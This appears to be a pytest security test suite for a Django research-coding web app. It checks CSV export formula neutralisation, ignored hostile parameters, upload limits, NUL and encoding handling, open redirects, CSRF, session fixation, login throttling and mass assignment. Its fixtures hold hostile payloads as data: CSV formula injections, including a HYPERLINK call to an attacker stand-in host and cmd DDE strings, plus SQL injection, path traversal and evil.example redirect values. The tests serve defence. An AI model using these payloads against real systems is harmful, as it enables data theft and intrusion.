"""Attack corpus (server side): CSV formula injection in every CSV the app serves, hostile
ordering/filter parameters, oversize uploads and deeply nested JSON, NUL bytes and invalid
encodings, open redirects on ``next=``, CSRF on every POST, session fixation and rotation,
login throttling, and the mass-assignment cases tests/coding/test_api.py does not cover.

Stored XSS is rendered in Chromium in test_browser_attacks.py. SSRF on endpoint base URLs
is tests/transcripts/test_ssrf.py; API mass assignment on studies, drafts and submits is
tests/coding/test_api.py (test_*mass_assignment*); the API CSRF baseline for one route is
test_api.py::test_session_writes_need_csrf (here: every write route).
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass

import pytest
from django.conf import settings as django_settings
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils.http import url_has_allowed_host_and_scheme
from rest_framework.test import APIClient

from audit.tasks import agreement_snapshot
from coding import exports
from coding.models import Assignment, Item, Membership, Reconciliation, Rubric, Study
from coding.services import (
    items_import,
    reconciliation_decide,
    rubric_create_from_data,
    score_submit,
    study_create,
    study_lock,
    study_open,
    study_unblind,
)
from tests.coding import api_matrix
from tests.factories import PASSWORD, UserFactory
from tests.security.conftest import PERSONAS, Form, World, parse_page
from tests.security.matrix import (
    EXPECTED,
    GENERATION_API,
    LOGIN,
    all_routes,
    call,
    html_routes,
    url_for,
)

TRIGGERS = tuple("=+-@\t\r")
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def body_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def role_for_get(name: str) -> str | None:
    """A persona that gets 200 on the route (the one whose view has the most to show)."""
    row = EXPECTED[name]
    for persona in ("lead", "coder_a", "adjudicator", "other_lead", "outsider", "anonymous"):
        if row.get[persona] == 200:
            return persona
    return None


# --- CSV formula injection --------------------------------------------------------------------


@pytest.fixture
def hostile(personas):
    """A locked, unblinded study where every user-controlled text reaching a CSV is hostile:
    rubric codes and names, coder usernames, ids, metadata, rationales, notes, file names,
    and benchmark-style document titles (for the audit matrix)."""
    p = personas
    rubric = rubric_create_from_data(
        data={
            "name": "=Rubric",
            "dimensions": [
                {"code": "=D1", "name": "+Spec", "levels": [{"value": -1}, {"value": 0}]},
                {"code": "@D2", "name": "-Proc", "levels": [{"value": 0}, {"value": 1}]},
            ],
        },
        by=p.lead,
    )
    study = study_create(name=INJECTIONS[0], rubric=rubric, by=p.lead, description=INJECTIONS[1])
    coders = [UserFactory(username="@mallory"), UserFactory(username="+eve")]
    for coder in coders:
        Membership.objects.create(study=study, user=coder, role=Membership.Role.CODER)
    Membership.objects.create(study=study, user=p.adjudicator, role=Membership.Role.ADJUDICATOR)
    hostile_meta = {
        "model": "=cmd|' /C calc'!A0",
        "scaffold": "-C1",
        "prompt": "+P1",
        "specification": "@under",
        "run_id": "=run",
    }
    records = [
        {"id": f"={i}", "messages": [{"role": "user", "content": "=1+1"}], **hostile_meta}
        for i in range(2)
    ]
    records.append({"id": "-doc", "title": INJECTIONS[2], "text": "A benchmark.", **hostile_meta})
    items_import(study=study, records=records, by=p.lead, source="=import.jsonl")
    study_open(study=study, by=p.lead)
    study.refresh_from_db()
    for n, coder in enumerate(coders):
        for a in Assignment.objects.filter(item__study=study, coder=coder).select_related("item"):
            values = {
                "=D1": {"value": -1 if n == 0 else 0, "rationale": INJECTIONS[(n + 3) % 6]},
                # A numeric text stays as it is (-1.5), a formula gets the apostrophe.
                "@D2": {"value": 1, "rationale": "-1.5" if n else INJECTIONS[(n + 4) % 6]},
            }
            score_submit(assignment=a, values=values, expected_version=a.version, by=coder)
    dimension = rubric.dimensions.get(code="=D1")
    for item in Item.objects.filter(study=study):
        if not Reconciliation.objects.filter(item=item, dimension=dimension).exists():
            reconciliation_decide(
                item=item,
                dimension=dimension,
                value=-1,
                method="adjudicated",
                note=INJECTIONS[5],
                by=p.adjudicator,
            )
    study_lock(study=study, by=p.lead)
    study_unblind(study=study, by=p.lead, reason=INJECTIONS[3])
    study.refresh_from_db()
    agreement_snapshot(study.pk, by_id=p.lead.pk)  # the worker: requests never compute it
    return study


def csv_urls(study: Study) -> dict[str, list[str]]:
    """Every route that serves CSV (from the resolver), with each export kind filled in."""
    urls: dict[str, list[str]] = {}
    for route in all_routes():
        api_export = route.route.startswith("api/") and "/exports/" in route.route
        if not (route.route.endswith(".csv") or api_export) or "provenance" in route.name:
            continue
        kinds = exports.KINDS if "kind" in route.converters else [None]
        judge = {"judge_id": _judge_run(study).pk} if "judge_id" in route.converters else {}
        urls[route.name] = [
            reverse(
                route.name,
                kwargs={"study_id": study.pk} | ({"kind": kind} if kind else {}) | judge,
            )
            for kind in kinds
        ]
    return urls


def _judge_run(study: Study):
    """A model co-coder run on the study (never driven): its calibration CSV still names
    every dimension and coder."""
    from transcripts.judge_services import judge_run_create
    from transcripts.models import JudgeRun, ModelEndpoint

    existing = JudgeRun.objects.filter(study=study).first()
    if existing is not None:
        return existing
    lead = study.memberships.get(role=Membership.Role.LEAD).user
    endpoint = ModelEndpoint.objects.create(
        created_by=lead,
        name="=judge",
        provider=ModelEndpoint.Provider.OPENAI_COMPATIBLE,
        base_url="http://127.0.0.1:9/v1",
        model="@model",
    )
    return judge_run_create(study=study, endpoint=endpoint, by=lead, dispatch=False)


def unsafe_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.startswith(TRIGGERS) and not NUMBER.match(cell)
    ]


def test_every_csv_export_neutralises_formulas(hostile, personas, client):
    urls = csv_urls(hostile)
    assert set(urls) >= {
        "coding:design-matrix",
        "coding:export-csv",
        "audit:agreement-csv",
        "audit:audit-matrix-csv",
        "api-export-csv",
    }, sorted(urls)
    client.force_login(personas.lead)
    checked = 0
    for name, url_list in urls.items():
        for url in url_list:
            response = client.get(url)
            assert response.status_code == 200, url
            assert response["Content-Type"].startswith("text/csv"), url
            text = body_of(response).decode("utf-8")
            assert not unsafe_cells(text), (url, unsafe_cells(text))
            cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
            neutralised = [c for c in cells if c[:1] == "'" and c[1:2] in "=+-@\t\r"]
            assert neutralised, f"{url}: no hostile text reached this file; the check is moot"
            checked += 1
    assert checked >= len(exports.KINDS) * 2 + 3


def test_numbers_are_not_prefixed(hostile, personas, client):
    """Negative values (-1 on the hostile rubric) stay numbers in long and wide exports."""
    client.force_login(personas.lead)
    for kind, column in (("long", "value"), ("wide", "=D1")):
        response = client.get(reverse("coding:export-csv", args=[hostile.pk, kind]))
        text = b"".join(response.streaming_content).decode()
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        key = column if column in rows[0] else "'" + column
        assert "-1" in {r[key] for r in rows}, (kind, rows[0])
        if kind == "long":
            assert "-1.5" in {r["rationale"] for r in rows}  # numeric text: unchanged


# --- ordering / filter parameters -------------------------------------------------------------

HOSTILE_PARAMS = {
    "search": "a\x00b",
    "ordering": "coder__password",
    "order_by": "-coder__password",
    "sort": "coder__password",
    "o": "item__study__memberships__user__password",
    "dimension": "__class__",
    "status": "__class__",
    "min_spread": "-1",
    "page": "__class__",
    "coder": "__class__",
    "coder__password__startswith": "md5",
    "item__conditionkey__model": "gpt",
    "fields": "password",
    "kind": "__class__",
    "benchmark": "__class__",
    "q": "' OR 1=1 --",
    "limit": "-1",
    "offset": "-5",
    "upto": "-1",
    "format": "__class__",
}


def _secrets(world: World) -> list[str]:
    users = get_user_model().objects.all()
    return [u.password for u in users] + ["__class__"]


@dataclass
class Fetched:
    persona: str
    url: str
    status: int
    content_type: str
    body: bytes


_FETCHED: dict[int, dict[str, Fetched]] = {}


def attacked_pages(world: World) -> dict[str, Fetched]:
    """Every GET page of the matrix, fetched once per module world with HOSTILE_PARAMS, as
    a persona who may see it (shared by the parameter and the upload-form tests)."""
    if id(world) not in _FETCHED:
        pages = {}
        for route in html_routes():
            persona = role_for_get(route.name)
            if persona is None:
                continue
            url = url_for(world, route.name, EXPECTED[route.name])
            response = call(world.client(persona), "get", url, HOSTILE_PARAMS)
            pages[route.name] = Fetched(
                persona,
                url,
                response.status_code,
                response.get("Content-Type", ""),
                body_of(response),
            )
        _FETCHED.clear()
        _FETCHED[id(world)] = pages
    return _FETCHED[id(world)]


def test_hostile_parameters_on_html_pages_are_ignored(world):
    """Every GET page, for a persona who may see it: still 200 (the matrix's status), no
    500, nothing reflected (password hashes, dunder names)."""
    secrets = _secrets(world)
    pages = attacked_pages(world)
    failures = []
    for page in pages.values():
        if page.status != 200:
            failures.append(f"{page.url}: {page.status}")
        elif leaked := [s for s in secrets if s.encode() in page.body]:
            failures.append(f"{page.url}: reflects {leaked}")
    assert len(pages) >= 45
    assert not failures, "\n".join(failures)


def test_reconciliation_queue_filters_are_whitelisted(world):
    """?dimension=__class__ / ?status=__class__ are dropped: the page equals the default."""
    from tests.security.matrix import unmasked

    client = world.client("adjudicator")
    url = reverse("coding:reconcile-queue", args=[world.study.pk])
    plain = call(client, "get", url)
    for params in (
        {"dimension": "__class__"},
        {"dimension": "D1__class__", "status": "__class__"},
        {"status": "all__class__", "min_spread": "x"},
        {"dimension": "pk"},
        {"ordering": "-item__public_code"},
    ):
        attacked = call(client, "get", url, params)
        assert attacked.status_code == 200
        assert unmasked(attacked.content) == unmasked(plain.content), params
    assert world.disputed[0].encode() in plain.content  # the page does list the item


def stable(value):
    """JSON without timestamps (``*_at`` keys), which differ between two requests."""
    if isinstance(value, dict):
        return {k: stable(v) for k, v in value.items() if not k.endswith("_at") and k != "at"}
    if isinstance(value, list):
        return [stable(v) for v in value]
    return value


def test_hostile_parameters_on_api_lists_are_ignored(world):
    """Every API GET route for a persona who may read it: identical JSON, no 500."""
    kwargs = world.kwargs() | {"code": world.disputed[0]}
    secrets = _secrets(world)
    readers = {
        name: table
        for (name, method), table in {**api_matrix.EXPECTED, **GENERATION_API}.items()
        if method == "get"
    }
    routes = {r.name: r for r in api_matrix.api_routes()}
    checked = 0
    for name, table in readers.items():
        persona = next((p for p in ("lead", "coder_a", "adjudicator") if table[p] == 200), None)
        if persona is None:
            continue
        client = APIClient()
        client.force_login(world.user(persona))
        route = routes[name]
        url = reverse(name, kwargs={k: kwargs[k] for k in route.pattern.pattern.converters})
        plain = client.get(url)
        # ?format= is DRF's renderer switch (an unknown one is a 404); everything else counts.
        attacked = client.get(url, {k: v for k, v in HOSTILE_PARAMS.items() if k != "format"})
        assert plain.status_code == 200, url
        assert attacked.status_code in (200, 400), (url, attacked.status_code)  # ignored or refused
        body = b"".join(attacked.streaming_content) if attacked.streaming else attacked.content
        assert not [s for s in secrets if s.encode() in body], url
        json_body = attacked["Content-Type"].startswith("application/json")
        if attacked.status_code == 200 and json_body:
            assert stable(attacked.json()) == stable(plain.json()), url
        checked += 1
    assert checked >= 15


def test_unicode_digits_in_upto_are_not_a_500(world):
    client = world.client("lead")
    client.raise_request_exception = False
    url = reverse("coding:export-csv", args=[world.study.pk, "events"])
    assert client.get(url, {"upto": "²"}).status_code in (200, 400)


def test_unicode_digits_in_reconcile_expected_id_are_not_a_500(world):
    client = world.client("adjudicator")
    client.raise_request_exception = False
    url = reverse("coding:reconcile-item", args=[world.study.pk, world.disputed[0]])
    body = {"value_D1": "1", "method_D1": "adjudicated", "note_D1": "x", "expected_D1": "²"}
    assert client.post(url, body).status_code in (302, 400, 409)


def test_unicode_digits_in_api_query_parameters_are_not_a_500(world):
    client = APIClient()
    client.force_login(world.p.lead)
    client.raise_request_exception = False
    queue = reverse("api-reconcile-queue", args=[world.study.pk])
    assert client.get(queue, {"min_spread": "²"}).status_code == 400
    events = reverse("api-export-csv", args=[world.study.pk, "events"])
    assert client.get(events, {"upto": "²"}).status_code in (200, 400)


def _unblinded_with(world: World, records: list[dict]) -> Study:
    """A small unblinded study of the personas with the given (hostile) records."""
    from tests.factories import StudyFactory
    from tests.security.conftest import codes_of, submit

    p = world.p
    study = StudyFactory(name="Superscripts")
    for user, role in [(p.coder_a, "coder"), (p.coder_b, "coder"), (p.lead, "lead")]:
        Membership.objects.create(study=study, user=user, role=role)
    items_import(study=study, records=records, by=p.lead)
    study_open(study=study, by=p.lead)
    study.refresh_from_db()
    submit(study, p.coder_a, codes_of(study), 1)
    submit(study, p.coder_b, codes_of(study), 1)
    from coding.services import reconciliation_auto_agree

    reconciliation_auto_agree(study=study)
    study_lock(study=study, by=p.lead)
    study_unblind(study=study, by=p.lead, reason="check")
    return study


def test_superscript_in_a_document_id_does_not_break_the_audit_matrix(world):
    records = [{"id": f"benchmark-{x}", "title": "t", "text": "x"} for x in ("²", "1")]
    study = _unblinded_with(world, records)
    client = world.client("lead")
    client.raise_request_exception = False
    for name in ("audit:audit-matrix", "audit:audit-matrix-csv"):
        assert client.get(reverse(name, args=[study.pk])).status_code == 200, name


def test_superscript_in_a_condition_label_does_not_break_analysis_pages(world):
    from tests.coding.conftest import make_records

    records = make_records(8, prefix="sup")
    for i, record in enumerate(records):
        record["scaffold"] = ("C1", "C1²")[i % 2]
    study = _unblinded_with(world, records)
    client = world.client("lead")
    client.raise_request_exception = False
    for name in (
        "audit:scaffold-efficacy",
        "audit:scaffold-efficacy-json",
        "audit:alignment-profiles",
        "audit:claim-report",
    ):
        assert client.get(reverse(name, args=[study.pk])).status_code == 200, name


# --- oversize uploads and deeply nested JSON --------------------------------------------------


def upload_forms(world: World) -> dict[str, tuple[str, str, Form]]:
    """Every form with a file input on any page (route name -> (persona, action, form))."""
    found = {}
    for name, page in attacked_pages(world).items():
        if "html" not in page.content_type:
            continue
        for form in parse_page(page.body.decode()).forms:
            if form.file_fields:
                assert form.method == "post" and form.enctype == "multipart/form-data", page.url
                found[name] = (page.persona, form.action or page.url, form)
    return found


def test_oversize_uploads_get_413_on_every_upload_form(world, settings):
    forms = upload_forms(world)
    assert set(forms) >= {"coding:study-import", "coding:rubric-list", "audit:rank-instability"}
    settings.MAX_UPLOAD_BYTES = 4096
    for name, (persona, action, form) in forms.items():
        data = dict(form.fields)
        for field_name in form.file_fields:
            data[field_name] = SimpleUploadedFile("big.jsonl", b"x" * 8192)
        response = call(world.client(persona), "post", action, data)
        assert response.status_code == 413, (name, response.status_code)
        assert b"Upload too large" in response.content
        small = call(world.client(persona), "post", action, dict(form.fields))
        assert small.status_code != 413, name  # the limit, not the form, refused it


def test_oversize_api_bodies_get_413(world, settings):
    settings.MAX_UPLOAD_BYTES = 4096
    client = APIClient()
    client.force_login(world.p.lead)
    url = reverse("api-study-import", args=[world.study.pk])
    big = SimpleUploadedFile("big.jsonl", b"x" * 8192)
    response = client.post(url, {"file": big}, format="multipart")
    assert response.status_code == 413 and "Upload too large" in response.json()["detail"]
    response = client.post(reverse("api-study-list"), {"name": "x" * 8192}, format="json")
    assert response.status_code == 413


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def test_deeply_nested_json_uploads_are_refused_cleanly(world):
    client = world.client("lead")
    deep = nested(100_000).encode()
    upload = SimpleUploadedFile("r.json", deep)
    rubric = client.post(reverse("coding:rubric-list"), {"file": upload})
    assert rubric.status_code == 200 and b"not valid UTF-8 JSON" in rubric.content
    line = b'{"id": "x", "messages": ' + deep + b"}"
    imported = client.post(
        reverse("coding:study-import", args=[world.study.pk]),
        {"file": SimpleUploadedFile("deep.jsonl", line)},
    )
    assert imported.status_code == 400
    assert Item.objects.filter(study=world.study, external_id="x").count() == 0
    api = APIClient()
    api.force_login(world.p.lead)
    response = api.post(
        reverse("api-study-import", args=[world.study.pk]),
        {"file": SimpleUploadedFile("deep.jsonl", line)},
        format="multipart",
    )
    assert response.status_code == 400


def api_write_routes() -> list[tuple[str, str, object]]:
    routes = api_matrix.api_routes()
    return [(r.name, m, r) for r in routes for m in r.methods if m in ("post", "put", "patch")]


def test_deeply_nested_json_api_bodies_are_400(world):
    client = APIClient()
    client.force_login(world.p.lead)
    client.raise_request_exception = False
    kwargs = world.kwargs() | {"code": world.disputed[0]}
    failures = []
    for name, method, route in api_write_routes():
        url = reverse(name, kwargs={k: kwargs[k] for k in route.pattern.pattern.converters})
        response = getattr(client, method)(url, nested(50_000), content_type="application/json")
        if response.status_code >= 500:
            failures.append(f"{method.upper()} {url}: {response.status_code}")
    assert not failures, "\n".join(failures)


def test_deeply_nested_json_in_run_extra_is_a_form_error(world):
    client = world.client("lead")
    client.raise_request_exception = False
    url = reverse("transcripts:run-create")
    response = client.post(url, {"name": "x", "extra": nested(50_000)})
    assert response.status_code == 200


# --- NUL bytes and invalid encodings ----------------------------------------------------------

NUL_FIELDS = [
    ("coding", "Study", ["name", "description"]),
    ("coding", "Rubric", ["name"]),
    ("coding", "Score", ["rationale"]),
    ("coding", "Reconciliation", ["note"]),
    ("audit", "Benchmark", ["name", "description"]),
    ("audit", "ClaimStatement", ["claim"]),
    ("transcripts", "GenerationRun", ["name"]),
    ("auth", "User", ["username"]),
]


def stored_nul() -> list[str]:
    from django.apps import apps

    found = []
    for app, model, fields in NUL_FIELDS:
        for row in apps.get_model(app, model).objects.values_list(*fields):
            found += [f"{model}: {v!r}" for v in row if isinstance(v, str) and "\x00" in v]
    return found


def poisoned(body: dict, poison: str) -> dict:
    return {k: (v + poison if isinstance(v, str) else v) for k, v in body.items()}


def test_nul_bytes_in_every_form_are_refused_without_a_500(world):
    """Every POST row of the matrix with a text body, each text value ending in NUL."""
    from django.db import transaction

    checked, failures = 0, []
    for name, row in EXPECTED.items():
        if row.post is None or row.body is None:
            continue
        persona = next(p for p in PERSONAS if row.post[p] not in (404, LOGIN))
        body = row.body(world, persona)
        if not any(isinstance(v, str) for v in body.values()):
            continue
        client = world.client(persona)
        client.raise_request_exception = False
        url = url_for(world, name, row)
        with transaction.atomic():
            response = client.post(url, poisoned(body, "\x00"))
            leaked = stored_nul()
            transaction.set_rollback(True)
        checked += 1
        if response.status_code >= 500 or leaked:
            failures.append(f"{url}: {response.status_code} {leaked}")
    assert checked >= 12
    assert not failures, "\n".join(failures)


def test_invalid_percent_encoding_in_form_bodies_is_not_a_500(world):
    checked = 0
    for name, row in EXPECTED.items():
        if row.post is None or row.body is None:
            continue
        persona = next(p for p in PERSONAS if row.post[p] not in (404, LOGIN))
        body = row.body(world, persona)
        raw = "&".join(f"{k}=%FF%FE%C3%28" for k, v in body.items() if isinstance(v, str))
        if not raw:
            continue
        client = world.client(persona)
        client.raise_request_exception = False
        response = _raw_post(client, url_for(world, name, row), raw)
        assert response.status_code < 500, (name, response.status_code)
        checked += 1
    assert checked >= 12


def _raw_post(client, url: str, raw: str):
    from django.db import transaction

    with transaction.atomic():
        response = client.post(url, raw, content_type="application/x-www-form-urlencoded")
        transaction.set_rollback(True)
    return response


HOSTILE_CODES = ["AB\x00C", "%FF%FE", "..%2F..%2F", "\u202eXYZ", "A" * 300, "2SG-YKF\x00"]


def test_hostile_item_codes_in_urls_are_404(world):
    """Every route with an item code, HTML and API, as a persona who may use the route."""
    from urllib.parse import quote

    routes = [r for r in all_routes() if "code" in r.converters]
    assert len(routes) >= 8
    kwargs = world.kwargs() | {"code": "PLACEHOLDER"}
    clients = {p: world.client(p) for p in ("lead", "coder_a")}
    for client in clients.values():
        client.raise_request_exception = False
    for route in routes:
        persona = "coder_a" if "my-" in route.name or route.name.endswith("-item") else "lead"
        if route.name in ("coding:reconcile-item", "coding:condition-key-item"):
            persona = "lead"
        url = reverse(route.name, kwargs={k: kwargs[k] for k in route.converters})
        for code in HOSTILE_CODES:
            hostile_url = url.replace("PLACEHOLDER", quote(code, safe="%"))
            response = clients[persona].get(hostile_url)
            assert response.status_code in (404, 405), (hostile_url, response.status_code)


@pytest.mark.parametrize(
    "raw",
    [b"\xff\xfe\x00\x00garbage", b'{"id": "a", "messages": "\xc3\x28"}\n', b"\x00" * 64],
)
def test_invalid_encodings_in_uploads_are_clear_errors(world, raw):
    client = world.client("lead")
    checks = [
        (reverse("coding:study-import", args=[world.study.pk]), "x.jsonl", 400),
        (reverse("coding:rubric-list"), "r.json", 200),
        (reverse("audit:rank-instability"), "r.csv", 400),
    ]
    for url, filename, status in checks:
        response = call(client, "post", url, {"file": SimpleUploadedFile(filename, raw)})
        assert response.status_code == status, (url, response.status_code)
        assert b"errorlist" in response.content or b"alert" in response.content, url
    api = APIClient()
    api.force_login(world.p.lead)
    response = api.post(
        reverse("api-study-import", args=[world.study.pk]),
        {"file": SimpleUploadedFile("x.jsonl", raw)},
        format="multipart",
    )
    assert response.status_code == 400


# --- open redirect on next= ------------------------------------------------------------------

EVIL_NEXT = [
    "//evil.example",
    "https://evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "https:evil.example",
    "http://testserver@evil.example",
    "///evil.example/",
    " //evil.example",
    "/\t/evil.example",
    "javascript:alert(1)",
]


def lands_on_this_site(location: str) -> bool:
    """Where a browser would go: backslashes act as slashes, tabs and newlines vanish."""
    from urllib.parse import urljoin, urlsplit

    browser = re.sub(r"[\t\n\r]", "", location).replace("\\", "/").strip()
    target = urlsplit(urljoin("http://testserver/studies/", browser))
    return target.scheme == "http" and target.netloc == "testserver"


@pytest.mark.parametrize("target", EVIL_NEXT)
def test_login_next_cannot_leave_the_site(personas, target):
    client = Client()
    response = client.post(
        reverse("login") + "?" + f"next={target}",
        {"username": "coder_a", "password": PASSWORD, "next": target},
    )
    assert response.status_code == 302
    assert lands_on_this_site(response["Location"]), response["Location"]
    again = client.get(reverse("login"), {"next": target})  # signed in: redirected onwards
    assert again.status_code == 302 and lands_on_this_site(again["Location"])
    assert url_has_allowed_host_and_scheme(again["Location"], {"testserver"})


@pytest.mark.parametrize("target", EVIL_NEXT)
def test_logout_next_cannot_leave_the_site(personas, target):
    client = Client()
    client.force_login(personas.coder_a)
    response = client.post(reverse("logout") + f"?next={target}", {"next": target})
    assert response.status_code == 302
    assert lands_on_this_site(response["Location"]), response["Location"]


def test_redirect_check_can_tell():
    assert not lands_on_this_site("//evil.example") and not lands_on_this_site("/\\evil.example")
    assert lands_on_this_site("/studies/1/") and lands_on_this_site("/%09/evil.example")


# --- CSRF ------------------------------------------------------------------------------------


def poster(name: str) -> str | None:
    """The persona for whom a POST to this route would do something (or be looked at)."""
    row = EXPECTED[name]
    for table in (row.post, row.get):
        if table:
            for persona in (
                "lead",
                "coder_a",
                "adjudicator",
                "other_lead",
                "operator",
                "anonymous",
            ):
                if table[persona] not in (404, LOGIN):
                    return persona
    return None


def csrf_client(world: World, persona: str) -> tuple[Client, str]:
    """A client with a valid CSRF cookie, as an attacker's victim would have."""
    client = world.client(persona, enforce_csrf_checks=True)
    client.get(reverse("login") if persona == "anonymous" else reverse("home"))
    token = client.cookies[django_settings.CSRF_COOKIE_NAME].value
    return client, token


def test_every_html_post_without_a_token_is_403(world):
    failures, checked = [], 0
    clients = {p: csrf_client(world, p) for p in PERSONAS}
    for route in html_routes():
        persona = poster(route.name)
        assert persona is not None, route.name
        client, token = clients[persona]
        row = EXPECTED[route.name]
        url = url_for(world, route.name, row)
        body = row.body(world, persona) if row.body else {}
        response = call(client, "post", url, body)
        checked += 1
        if response.status_code != 403 or b"CSRF" not in response.content:
            failures.append(f"POST {url} [{route.name}] as {persona}: {response.status_code}")
            continue
        if row.post is not None:  # the control: the same request with the token works
            body = row.body(world, persona) if row.body else {}
            ok = call(client, "post", url, {**body, "csrfmiddlewaretoken": token})
            if ok.status_code != row.post[persona]:
                failures.append(f"with token {url}: {ok.status_code} != {row.post[persona]}")
    assert checked == len(html_routes())
    assert not failures, "\n".join(failures)


def test_no_html_view_is_csrf_exempt():
    exempt = [
        r.name
        for r in all_routes()
        if not r.route.startswith("api/") and getattr(r.pattern.callback, "csrf_exempt", False)
    ]
    assert not exempt


def test_every_api_write_with_a_session_needs_the_token(world):
    """DRF views are csrf_exempt for Django and enforce CSRF in SessionAuthentication."""
    kwargs = world.kwargs() | {"code": world.disputed[0]}
    client = APIClient(enforce_csrf_checks=True)
    client.force_login(world.p.lead)
    checked = 0
    deletes = [
        (r.name, "delete", r)
        for r in api_matrix.api_routes()
        if hasattr(r.pattern.callback.cls, "delete")
    ]
    for name, method, route in api_write_routes() + deletes:
        url = reverse(name, kwargs={k: kwargs[k] for k in route.pattern.pattern.converters})
        response = call(client, method, url, {})
        assert response.status_code == 403, (method, url, response.status_code)
        assert "CSRF" in response.json()["detail"], url
        checked += 1
    assert checked >= 15


# --- sessions and login throttling ------------------------------------------------------------


def test_login_replaces_a_planted_session(personas):
    """Session fixation: a session id set before login is not the one used after it."""
    from django.contrib.sessions.backends.db import SessionStore

    planted = SessionStore()
    planted["planted"] = True
    planted.create()
    client = Client()
    client.cookies[django_settings.SESSION_COOKIE_NAME] = planted.session_key
    response = client.post(reverse("login"), {"username": "coder_a", "password": PASSWORD})
    assert response.status_code == 302
    new_key = client.cookies[django_settings.SESSION_COOKIE_NAME].value
    assert new_key != planted.session_key
    assert not SessionStore().exists(planted.session_key)
    victim = Client()
    victim.cookies[django_settings.SESSION_COOKIE_NAME] = planted.session_key
    assert victim.get(reverse("home")).status_code == 302  # the planted id is worthless


def test_logout_ends_the_session_on_the_server(personas):
    client = Client()
    client.post(reverse("login"), {"username": "coder_a", "password": PASSWORD})
    key = client.cookies[django_settings.SESSION_COOKIE_NAME].value
    assert client.get(reverse("home")).status_code == 200
    client.post(reverse("logout"))
    replay = Client()
    replay.cookies[django_settings.SESSION_COOKIE_NAME] = key
    response = replay.get(reverse("home"))
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))


def test_password_spraying_from_one_address_is_throttled(personas, settings):
    """Failures count per client address too: new usernames do not reset the budget."""
    settings.LOGIN_FAILURE_LIMIT = 3
    client = Client(REMOTE_ADDR="203.0.113.9")
    for username in ("lead", "adjudicator", "coder_b"):
        client.post(reverse("login"), {"username": username, "password": "Winter2026!"})
    response = client.post(reverse("login"), {"username": "coder_a", "password": PASSWORD})
    assert response.status_code == 200 and b"Too many failed sign-in attempts" in response.content
    assert client.get(reverse("home")).status_code == 302  # the right password did not work
    elsewhere = Client(REMOTE_ADDR="198.51.100.7")
    ok = elsewhere.post(reverse("login"), {"username": "coder_a", "password": PASSWORD})
    assert ok.status_code == 302


def test_admin_login_is_throttled_too(personas, settings):
    settings.LOGIN_FAILURE_LIMIT = 3
    get_user_model().objects.create_user("staffer", password=PASSWORD, is_staff=True)
    client = Client()
    for _ in range(5):
        client.post(reverse("admin:login"), {"username": "staffer", "password": "guess"})
    response = client.post(reverse("admin:login"), {"username": "staffer", "password": PASSWORD})
    assert response.status_code == 200, "the correct password was accepted after 5 failures"


@pytest.mark.parametrize(
    "variant",
    [
        pytest.param("coder_a", id="exact"),
        pytest.param("coder_a ", id="trailing-space"),
        pytest.param(" coder_a", id="leading-space"),
        pytest.param("\uff43oder_a", id="fullwidth"),
    ],
)
def test_per_user_throttle_sees_through_username_variants(personas, settings, variant):
    """A distributed guesser (a new address per attempt) is stopped by the per-user count;
    spellings that sign in as the same user must count against the same budget."""
    settings.LOGIN_FAILURE_LIMIT = 3
    for n in range(3):
        Client(REMOTE_ADDR=f"203.0.113.{n}").post(
            reverse("login"), {"username": "coder_a", "password": f"guess-{n}"}
        )
    client = Client(REMOTE_ADDR="198.51.100.99")
    response = client.post(reverse("login"), {"username": variant, "password": PASSWORD})
    assert response.status_code == 200, f"{variant!r} signed in after the budget was spent"
    assert b"Too many failed sign-in attempts" in response.content


# --- mass assignment (the API cases tests/coding/test_api.py does not cover) -------------------


def test_member_add_cannot_target_another_study_or_user(world):
    p = world.p
    client = APIClient()
    client.force_login(p.lead)
    url = reverse("api-study-members", args=[world.study.pk])
    body = {"username": "outsider", "role": "coder", "study": p.other_study.pk, "user": p.lead.pk}
    response = client.post(url, body, format="json")
    assert response.status_code == 400 and set(response.json()) == {"study", "user"}
    assert not Membership.objects.filter(user=p.outsider).exists()
    assert not Membership.objects.filter(study=p.other_study, user=p.lead).exists()


def test_decision_cannot_set_who_or_when(world):
    p = world.p
    client = APIClient()
    client.force_login(p.adjudicator)
    url = reverse("api-reconcile-decide", args=[world.study.pk, world.disputed[0]])
    base = {"dimension": "D1", "value": 1, "method": "adjudicated", "note": "n"}
    for extra in ({"decided_by": p.lead.pk}, {"decided_at": "2000-01-01T00:00:00Z"}, {"item": 1}):
        response = client.post(url, {**base, **extra}, format="json")
        assert response.status_code == 400, (extra, response.status_code)
    assert not Reconciliation.objects.filter(decided_by=p.lead).exists()
    response = client.post(url, base, format="json")
    assert response.status_code == 201  # the same body without the extra field is accepted
    assert Reconciliation.objects.get(item__public_code=world.disputed[0], dimension__code="D1")


def test_rubric_import_cannot_set_frozen_owner_or_id(world):
    from coding.services import rubric_export

    client = APIClient()
    client.force_login(world.p.lead)
    data = {**rubric_export(rubric=world.rubric), "name": "Sneaky rubric"}
    for extra in ({"frozen": True}, {"created_by": world.p.other_lead.pk}, {"id": 1}):
        response = client.post(reverse("api-rubric-list"), {**data, **extra}, format="json")
        assert response.status_code == 400, (extra, response.status_code)
    assert not Rubric.objects.filter(name="Sneaky rubric").exists()


def test_html_forms_ignore_owner_status_and_builtin_fields(world):
    """HTML forms list their fields: extra POST keys never reach the model."""
    from audit.models import Benchmark

    client = world.client("lead")
    extra = {"status": "unblinded", "created_by": world.p.other_lead.pk, "builtin": "on"}
    body = {"name": "Form study", "rubric": world.rubric.pk, "coders_per_item": 2, **extra}
    bench = {"name": "Form bench", "description": "d", **extra}
    from django.db import transaction

    with transaction.atomic():
        assert client.post(reverse("coding:study-create"), body).status_code == 302
